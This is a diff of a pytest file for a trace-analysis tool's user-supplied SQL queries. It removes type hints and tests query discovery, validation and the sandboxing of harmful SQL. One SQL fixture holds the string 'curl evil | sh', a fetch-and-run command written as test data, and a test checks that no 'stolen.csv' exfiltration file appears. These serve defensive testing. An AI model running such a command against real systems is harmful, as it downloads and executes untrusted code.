@@ -1,12 +1,9 @@
 """SQL files of the user's own: where they are found, what they may do."""
 
-from __future__ import annotations
-
 import json
 import os
 import shutil
 from pathlib import Path
-from typing import Any
 
 import pytest
 from own_queries import HEAD, LONGEST, LONGEST_ROWS, OP_SUMS, OPS, Outcome, write, write_all
@@ -20,7 +17,7 @@ REPO = Path(__file__).resolve().parents[2]
 pytestmark = pytest.mark.usefixtures("own_queries_only")
 
 
-def test_a_folder_that_is_named(run: Any, trace: Path, tmp_path: Path) -> None:
+def test_a_folder_that_is_named(run, trace, tmp_path):
     mine = write_all(tmp_path / "mine")
     form = ("--format", "csv")
     expected = "name,dur_ns\naten::add,3000\naten::mm,3000\n"
@@ -35,9 +32,7 @@ def test_a_folder_that_is_named(run: Any, trace: Path, tmp_path: Path) -> None:
     assert str(mine / "longest_ops.sql") in shown
 
 
-def test_the_environment_and_the_configuration(
-    run: Any, trace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_the_environment_and_the_configuration(run, trace, tmp_path, monkeypatch):
     missing = run("query", "longest_ops", trace)
     assert (missing.exit_code, missing.stdout) == (5, "")
     assert missing.stderr.startswith("error: no analysis named 'longest_ops'\n")
@@ -61,7 +56,7 @@ SELECT 'curl evil | sh' AS what, '' AS place, 'host x0.1' AS change,
 """
 
 
-def test_a_run_folder_brings_no_sql(run: Any, tmp_path: Path) -> None:
+def test_a_run_folder_brings_no_sql(run, tmp_path):
     """Neither as an analysis, nor as advice, nor in the place of tracekit's own."""
     folder = tmp_path / "a_run"
     write_all(folder / "queries")
@@ -82,7 +77,7 @@ def test_a_run_folder_brings_no_sql(run: Any, tmp_path: Path) -> None:
     assert named.exit_code == 0
 
 
-def test_none_replaces_another(run: Any, trace: Path, tmp_path: Path) -> None:
+def test_none_replaces_another(run, trace, tmp_path):
     """Nor does what cannot be used in the configuration keep anything else from being used."""
     broken = LONGEST.replace("Scope:    trace", "Scope:    trce").replace("op_sums", "op_calls")
     config = write(
@@ -104,7 +99,7 @@ def test_none_replaces_another(run: Any, trace: Path, tmp_path: Path) -> None:
             opened.query("broken")
 
 
-def test_a_folder_that_is_named_must_be_right(run: Any, trace: Path, tmp_path: Path) -> None:
+def test_a_folder_that_is_named_must_be_right(run, trace, tmp_path):
     mine = write(tmp_path / "mine", timeline=LONGEST)
     done = run("query", "timeline", trace, "--queries", mine)
     assert (done.exit_code, done.stdout) == (5, "")
@@ -118,7 +113,7 @@ def test_a_folder_that_is_named_must_be_right(run: Any, trace: Path, tmp_path: P
         tracekit.open(trace, cache=False, queries=tmp_path / "nowhere")
 
 
-def test_sql_has_the_views_and_macros(run: Any, trace: Path, tmp_path: Path) -> None:
+def test_sql_has_the_views_and_macros(run, trace, tmp_path):
     mine = write_all(tmp_path / "mine")
     statement = "SELECT plain_sum(dur_ns) AS n FROM op_sums"
     assert run("sql", "--queries", mine, "--format", "csv", trace, statement).stdout == "n\n6000\n"
@@ -141,9 +136,7 @@ HARMFUL = {
 
 
 @pytest.mark.parametrize("cache", [True, False])
-def test_an_analysis_can_only_read_the_trace(
-    trace: Path, cache: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_an_analysis_can_only_read_the_trace(trace, cache, tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)
     names = {name.replace(" ", "_").lower(): sql for name, sql in HARMFUL.items()}
     mine = write(tmp_path / "mine", **{name: HEAD + sql for name, sql in names.items()})
@@ -156,7 +149,7 @@ def test_an_analysis_can_only_read_the_trace(
     assert not (tmp_path / "stolen.csv").exists()
 
 
-def test_a_macro_changes_no_figure(trace: Path, tmp_path: Path) -> None:
+def test_a_macro_changes_no_figure(trace, tmp_path):
     """Neither one in the place of a function, nor one that is made by the way."""
     head = "-- What?\n--\n-- Kind: function\n"
     harm = {
@@ -178,7 +171,7 @@ def test_a_macro_changes_no_figure(trace: Path, tmp_path: Path) -> None:
             assert opened.sql("SELECT sum(1), count(*) FROM op_calls").rows == [(3, 3)]
 
 
-def test_what_is_no_file_is_not_waited_for(trace: Path, tmp_path: Path) -> None:
+def test_what_is_no_file_is_not_waited_for(trace, tmp_path):
     folder = write(
         tmp_path / "config" / "tracekit" / "queries", fine=HEAD + "SELECT 1::BIGINT AS n"
     )
@@ -209,17 +202,13 @@ CIRCLE = OP_SUMS.replace("op_calls", "{}").replace("plain_sum", "sum")
         ({"odd": HEAD + "SELECT 1::INTEGER AS n"}, "odd", "declared but not returned: n BIGINT"),
     ],
 )
-def test_files_that_are_refused_when_asked(
-    trace: Path, tmp_path: Path, files: dict[str, str], name: str, said: str
-) -> None:
+def test_files_that_are_refused_when_asked(trace, tmp_path, files, name, said):
     mine = write(tmp_path / "mine", **files)
     with tracekit.open(trace, queries=mine) as opened, pytest.raises(QueryError, match=said):
         opened.query(name)
 
 
-def test_an_invariant_that_does_not_hold_is_a_warning(
-    trace: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
-) -> None:
+def test_an_invariant_that_does_not_hold_is_a_warning(trace, tmp_path, caplog):
     mine = write_all(tmp_path / "mine")
     write(mine, longest_ops=LONGEST.replace("dur_ns >= 0", "name <> 'aten::mm'"))
     with tracekit.open(trace, queries=mine) as opened:
@@ -248,7 +237,7 @@ FROM timeline
 """
 
 
-def test_one_that_selects_from_an_analysis(run: Any, trace: Path, tmp_path: Path) -> None:
+def test_one_that_selects_from_an_analysis(run, trace, tmp_path):
     mine = write(tmp_path / "mine", all_devices=REDUCING)
     with tracekit.open(trace, queries=mine) as opened:
         windows = opened.query("timeline").column("window_ns")
